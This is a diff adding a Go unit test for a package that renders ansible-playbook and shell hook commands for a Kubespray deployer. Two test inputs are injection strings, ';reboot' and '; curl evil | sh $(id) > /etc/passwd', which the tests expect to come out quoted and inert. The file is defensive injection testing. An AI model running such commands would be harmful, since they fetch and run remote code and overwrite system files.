@@ -0,0 +1,128 @@
+package entrypoint
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestRender(t *testing.T) {
+	tests := []struct {
+		name    string
+		build   func(ep *EntryPoint) error
+		want    []string
+		notWant []string
+		wantErr string
+	}{
+		{
+			name: "playbook",
+			build: func(ep *EntryPoint) error {
+				ep.VaultPasswordFile, ep.SecretVarsFile, ep.ExtraVarsFile = VaultPasswordPath, SecretVarsPath, ExtraVarsPath
+				return ep.SprayRunPart(PBAction, ClusterPB, PlaybookArgs{Limit: []string{"node1"}, ExtraArgs: "-e 'a=b c'"}, true, true)
+			},
+			want: []string{"ansible-playbook -i /conf/hosts.yml -b --become-user root -e @/conf/group_vars.yml --private-key /auth/ssh-privatekey " +
+				"--vault-password-file /auth/vault-password -e @/conf/secret-vars.yml -e @/conf/extra-vars.yml /kubespray/cluster.yml --limit node1 -e 'a=b c'\n"},
+		},
+		{
+			name: "external playbook path is quoted",
+			build: func(ep *EntryPoint) error {
+				return ep.SprayRunPart(PBAction, "my playbook.yml;reboot", PlaybookArgs{}, false, false)
+			},
+			want:    []string{"'/kubespray/my playbook.yml;reboot'"},
+			notWant: []string{"--private-key"},
+		},
+		{
+			name: "shell action is a script with quoted args",
+			build: func(ep *EntryPoint) error {
+				if err := ep.PreHookRunPart(SHAction, `/scripts/check.sh "node 1" --fast`, PlaybookArgs{}, false, false); err != nil {
+					return err
+				}
+				if err := ep.SprayRunPart(PBAction, ScalePB, PlaybookArgs{}, false, true); err != nil {
+					return err
+				}
+				return ep.PostHookRunPart(SHAction, "echo done", PlaybookArgs{}, false, false)
+			},
+			want: []string{"# preinstall\n/scripts/check.sh 'node 1' --fast\n", "\nansible-playbook ", "# postinstall\necho done\n"},
+		},
+		{
+			name: "shell metacharacters are not run",
+			build: func(ep *EntryPoint) error {
+				return ep.SprayRunPart(SHAction, `/scripts/run.sh; curl evil | sh $(id) > /etc/passwd`, PlaybookArgs{}, false, false)
+			},
+			want: []string{"'/scripts/run.sh;' curl evil '|' sh '$(id)' '>' /etc/passwd\n"},
+		},
+		{
+			name: "empty shell action",
+			build: func(ep *EntryPoint) error {
+				return ep.PostHookRunPart(SHAction, "  ", PlaybookArgs{}, false, false)
+			},
+			wantErr: "posthook: buildShellCmd: shell action must start with the script to run",
+		},
+		{
+			name: "unterminated quote in shell action",
+			build: func(ep *EntryPoint) error {
+				return ep.SprayRunPart(SHAction, `/scripts/run.sh "a`, PlaybookArgs{}, false, false)
+			},
+			wantErr: "unterminated quote",
+		},
+		{
+			name: "typed args on shell action",
+			build: func(ep *EntryPoint) error {
+				return ep.PreHookRunPart(SHAction, "/scripts/run.sh", PlaybookArgs{Forks: 5}, false, false)
+			},
+			wantErr: "only apply to the playbook action type",
+		},
+		{
+			name: "unknown builtin playbook",
+			build: func(ep *EntryPoint) error {
+				return ep.SprayRunPart(PBAction, "bogus.yml", PlaybookArgs{}, false, true)
+			},
+			wantErr: "unknown playbook type",
+		},
+		{
+			name: "check mode",
+			build: func(ep *EntryPoint) error {
+				return ep.SprayCheckRunPart(PBAction, UpgradeClusterPB, PlaybookArgs{ExtraArgs: "-e x=1"}, false, true)
+			},
+			want: []string{"/kubespray/upgrade-cluster.yml -e x=1 --check --diff\n"},
+		},
+		{
+			name: "check mode only supports playbooks",
+			build: func(ep *EntryPoint) error {
+				return ep.SprayCheckRunPart(SHAction, "/scripts/run.sh", PlaybookArgs{}, false, false)
+			},
+			wantErr: "dry run only supports",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			ep := NewEntryPoint()
+			err := tt.build(ep)
+			if len(tt.wantErr) > 0 {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Fatalf("got error %v, want %q", err, tt.wantErr)
+				}
+				if _, ok := err.(ArgsError); !ok {
+					t.Errorf("got %T, want an ArgsError", err)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			script, err := ep.Render()
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, want := range tt.want {
+				if !strings.Contains(script, want) {
+					t.Errorf("script %q does not contain %q", script, want)
+				}
+			}
+			for _, notWant := range tt.notWant {
+				if strings.Contains(script, notWant) {
+					t.Errorf("script %q contains %q", script, notWant)
+				}
+			}
+		})
+	}
+}